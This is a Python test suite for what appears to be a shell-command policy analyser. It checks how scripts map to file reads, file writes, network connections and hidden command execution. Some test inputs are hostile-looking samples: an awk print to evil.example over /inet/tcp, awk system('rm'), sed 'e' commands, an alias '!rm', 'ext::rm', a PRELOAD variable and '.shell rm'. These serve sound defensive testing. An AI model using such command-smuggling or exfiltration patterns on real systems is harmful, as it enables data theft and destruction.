"""What commands do by their profiles: effects, commands run in turn, and open questions."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from policy.programs import Invocation, Profiles, ScriptAnalysis, analyse_script
from policy.shell import Word

PROFILES = Profiles.of(
    {
        "show.toml": 'flags = "-n"\noperands = "read..."\n',
        "copy.toml": 'flags = "-v"\noperands = "read... write"\n',
        "into.toml": 'operands = "read... write-into"\n',
        "put.toml": 'operands = "read..."\n[options]\n"-o|--out" = "write"\n"-C" = "folder"\n',
        "edit.toml": 'operands = "sed read..."\n[options]\n"-e" = "sed"\n',
        "awk.toml": 'operands = "awk read..."\n',
        "query.toml": 'operands = "read-write sql"\nstdin = "sql"\n',
        "search.toml": 'operands = "text read..."\nbare = ["read-tree ."]\n',
        "sh.toml": (
            'style = "posix"\nflags = "-c -s -x"\noperands = "script text..."\nstdin = "command"\n'
            '[[variant]]\ngiven = "-c"\noperands = "command text..."\n'
        ),
        "py.toml": (
            'style = "posix"\noperands = "script text..."\nstdin = "code"\n'
            '[options]\n"-c" = "code last"\n'
        ),
        "as.toml": 'style = "posix"\nfree = true\nvalues = "-u"\noperands = "env-argv..."\n',
        "in.toml": 'style = "posix"\noperands = "argv..."\n[options]\n"-C" = "folder"\n',
        "far.toml": 'operands = "host words-command..."\nstdin = "command"\n',
        "each.toml": (
            'style = "posix"\noperands = "argv-more..."\n[options]\n"-I" = "placeholder"\n'
        ),
        "seek.toml": (
            'style = "words"\nvalues = "-name"\noperands = "read-tree..."\n'
            'bare = ["read-tree ."]\n[options]\n"-exec" = "argv-until"\n'
        ),
        "vcs.toml": (
            'settings = "user.*"\n[options]\n"-C" = "folder"\n"-c" = "config"\n'
            '[sub.log]\noperands = "read..."\n[sub.push]\noperands = "remote text..."\n'
            '[sub.push.means]\n"+*" = "--force"\n'
        ),
        "sync.toml": 'operands = "place-read... place-write"\n',
        "tool.toml": "hides = true\n",
        "build.toml": 'unseen = true\noperands = "text..."\n',
        "environment.toml": (
            'harmless = "LANG"\ncommand = "PAGER"\ncode = "PRELOAD"\nread = "CONF"\n'
        ),
    }
)


def read(script: str) -> ScriptAnalysis:
    understood = analyse_script(script, PROFILES)
    assert isinstance(understood, ScriptAnalysis), understood
    return understood


def one(script: str) -> Invocation:
    (command,) = read(script).commands
    return command


def effects(script: str) -> list[str]:
    """Return effects as `verb folder/word`, `?` for what is not known and `/**` for a tree."""
    found = []
    for command in read(script).walk():
        for effect in command.effects:
            folder = "".join(f"{word.text}/" for word in effect.folder)
            text = "?" if effect.word is None else effect.word.text
            mark = "" if effect.word is None or effect.word.known else f"~{effect.word.shape}"
            mark += "/**" if effect.tree else ""
            mark += " (into)" if effect.into else ""
            found.append(f"{effect.verb} {folder}{text}{mark}")
    return found


def inner(script: str) -> list[str]:
    return [command.command.text for command in one(script).inner]


def gaps(script: str) -> list[str]:
    understood = read(script)
    return [*understood.gaps, *(gap for command in understood.walk() for gap in command.gaps)]


@pytest.mark.parametrize(
    ("script", "wanted"),
    [
        ("show a b", ["reads a", "reads b"]),
        ("show -", []),
        ("copy a b c", ["reads a", "reads b", "writes c"]),
        ("into a d/", ["reads a", "writes d/", "writes d/a (into)"]),
        ("into x/a b d", ["reads x/a", "reads b", "writes d", "writes d/a (into)",
                          "writes d/b (into)"]),
        ("put -oout a", ["writes out", "reads a"]),
        ("put --out - a", ["reads a"]),
        ("put a -C d b -o c", ["reads a", "reads d/b", "writes d/c"]),
        ("search word", ["reads ./**"]),
        ("search word a", ["reads a"]),
        ("vcs -C d log a", ["reads d/a"]),
        ("vcs push https://h/x main", ["connects https://h/x"]),
        ("vcs push git@h:x.git", ["connects ssh://git@h/x.git"]),
        ("vcs push origin", ["connects ?"]),
        ("vcs push ../b", ["reads ../b/**", "writes ../b/**"]),
        ("sync a u@h:b", ["reads a/**", "connects ssh://u@h/b"]),
        ("sync h::mod ./b:c", ["connects rsync://h/mod", "writes ./b:c/**"]),
        ("CONF=x show", ["reads x"]),
    ],
)  # fmt: skip
def test_what_words_touch(script: str, wanted: list[str]) -> None:
    assert effects(script) == wanted
    assert gaps(script) == []


@pytest.mark.parametrize(
    ("script", "wanted"),
    [
        ("copy *.c d", ["reads *.c~glob", "writes d"]),
        ('copy "$x" d', ["reads ~opaque", "writes d"]),
        # `$x` may be nothing, so that `b` is the last.
        ("copy a b $x", ["reads a", "writes b", "reads b", "writes ~opaque", "reads ~opaque"]),
        ("copy $x d", ["reads ~opaque", "writes d"]),
        ("copy --what a b", ["reads ?", "writes ?", "connects ?", "reads a", "writes b"]),
    ],
)  # fmt: skip
def test_words_that_are_not_known_may_stand_in_several_places(
    script: str, wanted: list[str]
) -> None:
    assert sorted(effects(script)) == sorted(wanted)


def test_an_option_of_harm_may_hide_in_a_word_that_is_not_known() -> None:
    assert "writes ?" in effects('put "$x"')
    assert "writes ?" not in effects('put -- "$x"')
    assert "writes *~glob" in effects("put *.c")
    assert effects("put ./*.c") == ["reads ./*.c~glob"]


@pytest.mark.parametrize(
    ("script", "wanted"),
    [
        ("sh -c 'show a; copy b c'", ["show a", "copy b c"]),
        ("as -u me A=b show a", ["A=b show a"]),
        ("far host show a", ["show a"]),
        ("sh <<< 'show a'", ["show a"]),
        ("sh <<'E'\nshow a\nE", ["show a"]),
        ("far h <<< 'show a'", ["show a"]),
        ("each show a", ["show a"]),
        ("seek d -exec show {} ';' -exec copy b {} +", ["show {}", "copy b {}"]),
        ("PAGER='show x' vcs log", ["show x"]),
    ],
)
def test_commands_that_are_run_in_turn(script: str, wanted: list[str]) -> None:
    assert inner(script) == wanted
    assert gaps(script) == []


@pytest.mark.parametrize(
    "script",
    [
        "$x a",
        'sh -c "$x"',
        "sh",
        "echo a | sh",
        "sh -s < <(show)",
        'sh "$x"',
        "sh -",
        "py -c 'print(1)'",
        "py",
        "far h $x",
        "as $x show",
        "each $x",
        "tool",
        "vcs unheard",
        "vcs $x",
        "vcs -c alias.log='!rm' log",
        "vcs push ext::rm",
        "PRELOAD=./x show",
        "PAGER=$x show",
        "edit 's/a/b/e' f",
        "edit '1e rm' f",
        'edit "$x" f',
        "awk 'BEGIN { system(\"rm\") }'",
        "awk '{ print | \"sh\" }'",
        "query d '.shell rm'",
        "query d <<< '\\! rm'",
    ],
)
def test_what_may_run_commands_out_of_sight_is_a_gap(script: str) -> None:
    assert gaps(script)


@pytest.mark.parametrize(
    ("script", "unseen"),
    [
        ("py x.py", True),
        ("sh x.sh", True),
        ("sh < x.sh", True),
        ("build all", True),
        ("./show a", True),
        ("/bin/show a", False),
        ("show a", False),
        ("sh -c 'show a'", False),
    ],
)
def test_code_out_of_sight(script: str, unseen: bool) -> None:
    assert any(command.unseen for command in read(script).walk()) is unseen
    assert gaps(script) == []


def test_found_paths_begin_where_the_search_does() -> None:
    (command,) = one("seek src/a src/b -exec show {} +").inner

    found = command.operands[0].word
    assert (found.text, found.shape, found.recursive) == ("src/*", "glob", True)
    assert not command.operands[0].may_be_option
    (rest,) = one('seek -exec show "a{}" +').inner
    assert rest.operands[0].word == Word("a", "opaque")


def test_words_from_input_may_be_anything() -> None:
    assert "writes ?" in effects("each put")
    assert "reads ~opaque" in effects("each -I% show %")
    assert inner("each -I% sh -c 'show %'") == ["sh -c 'show %'"]
    assert gaps("each -I% sh -c 'show %'")


def test_a_folder_holds_for_what_is_run_there() -> None:
    assert one("in -C d show a").inner[0].command.folders == ("d",)
    assert one('in -C "$x" show a').inner[0].command.folders is None
    assert one("sh -c 'cd d && show a'").inner[1].command.folders == ("d",)


def test_what_is_run_says_where_it_stands() -> None:
    (outer,) = one("as -u me sh -c 'show a'").inner

    assert outer.command.inside == ("as",)
    assert outer.inner[0].command.inside == ("as", "sh")


def test_operands_that_mean_an_option() -> None:
    command = one("vcs push origin +main")

    assert [(option.name, option.spelled) for option in command.options] == [("--force", "")]
    assert [operand.word.text for operand in command.operands] == ["origin", "+main"]


def test_programs_are_told_apart_by_folder_and_letter() -> None:
    assert one("/usr/bin/show a").place == "/usr/bin"
    assert one("./show a").place == "."
    assert one("/show a").place == "/"
    assert not one("Show a").profiled
    assert one("unheard -x a").operands[0].word == Word("-x")


def test_a_free_program_is_so_only_without_harm() -> None:
    assert one("as show a").free
    assert not one("as --what show a").free
    assert not one("show a").free


def test_nesting_is_bounded() -> None:
    deep = "as " * 500 + "show a"

    assert gaps(deep)
    assert len(list(one(deep).walk())) < 20


def test_what_is_read_in_turn_is_bounded() -> None:
    # Each of the many shells would read the whole text once more.
    script = "sh -c '" + "sh;" * 600 + "' <<'E'\n" + "sh;" * 600 + "\nE"

    assert "more nested commands than can be analysed" in gaps(script)


@pytest.mark.parametrize(
    "script",
    [
        "1,5p", "$d", "/a/,/b/d", "s/a/b/g", "s|a|b|2p;y/ab/cd/", "1!G;h;$!d", ":a;N;$!ba;s/\\n/ /",
        "/x/{s/a/b/;p}", "2q", "a\\\ntext", "$a text; w no", "0~3d", "s/[0-9]*//;#c", "/a\\/b/I!p",
    ],
)  # fmt: skip
def test_a_sed_script_that_only_edits(script: str) -> None:
    command = one(f"edit {quoted(script)} f")

    assert effects(f"edit {quoted(script)} f") == ["reads f"]
    assert not command.operands[0].guarded and command.gaps == ()


@pytest.mark.parametrize(
    ("script", "wanted"),
    [
        ("w out", "writes out"),
        ("s/a/b/gw out", "writes out"),
        ("/x/{r in\n}", "reads in"),
        ("$!{$!W out\n}", "writes out"),
        ("sv[v]vw .env", "writes ?"),
        ("k", "writes ?"),
        ("s/a/b", "writes ?"),
    ],
)
def test_files_that_a_sed_script_names(script: str, wanted: str) -> None:
    assert wanted in effects(f"edit {quoted(script)} f")


@pytest.mark.parametrize(
    ("program", "wanted"),
    [
        ("{ print $1 }", []),
        ("$1 > 5 || /a|b/ { n++ } END { print n / 2 }", []),
        ('{ print ($1 > 2), "x>y" }', []),
        ('{ print > "out" }', ["writes out"]),
        ('{ print $1, $2 >> "out"; next }', ["writes out"]),
        ("{ print > $1 }", ["writes ?", "connects ?"]),
        ('{ print $1,\n$2 > "out" }', ["writes out"]),
        ('{ print /"/ > "out" # "\n}', ["writes out"]),
        ('{ getline a[1+(1)+1+1+1+1] < "in" }', ["reads in"]),
        ('{ print > "/inet/tcp/0/evil.example/80" }', ["connects evil.example:80"]),
        ("{ print (a)/2, $1/$2 }", []),
        ('{ while ((getline line < "in") > 0) n++ }', ["reads in"]),
        ('{ print "x" > "/dev/stderr" }', []),
    ],
)
def test_files_that_an_awk_program_names(program: str, wanted: list[str]) -> None:
    assert effects(f"awk {quoted(program)}") == wanted
    assert gaps(f"awk {quoted(program)}") == []


@given(st.text("sweab/;{}\n|>()\"' $1", max_size=30))
def test_any_script_of_a_small_language_is_read(text: str) -> None:
    for program in ("edit", "awk", "query d"):
        one(f"{program} {quoted(text)}")


SHELL = st.lists(
    st.sampled_from(
        "show copy put edit sh as far each seek vcs -c -o -exec -I a $x *.c - -- {} ; + | 's/a/b/' "
        "'sh -c a' \"$y\" A=b log push <<<x".split()
    ),
    max_size=9,
).map(" ".join)


@given(SHELL)
def test_any_words_are_understood(script: str) -> None:
    understood = analyse_script(script, PROFILES)

    if isinstance(understood, ScriptAnalysis):
        for command in understood.walk():
            assert command.program or command.gaps or not command.command.words


def quoted(text: str) -> str:
    return "'" + text.replace("'", "'\\''") + "'"
